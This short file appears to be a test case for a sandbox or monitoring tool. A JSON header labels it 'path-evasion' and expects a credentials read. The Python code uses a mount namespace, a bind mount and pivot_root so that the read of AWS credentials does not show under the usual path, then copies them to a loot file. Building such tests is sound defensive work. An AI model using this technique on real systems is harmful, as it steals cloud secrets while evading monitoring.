#: {"class": "path-evasion", "loader": "script", "include": ["raw"], "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
def mount(a, b, t, fl, d=None):
    assert _c.mount(a.encode(), b.encode(), t.encode() if t else None, fl, d.encode() if d else None) == 0, ctypes.get_errno()

f = os.open("@LOOT@", os.O_WRONLY | os.O_CREAT, 0o644); _c.unshare(0x20000)
mount(HOME, HOME, "", 4096); os.chdir(HOME); assert sysc(155, b".", b".") == 0; os.chdir("/")
os.write(f, open("/.aws/credentials", "rb").read())
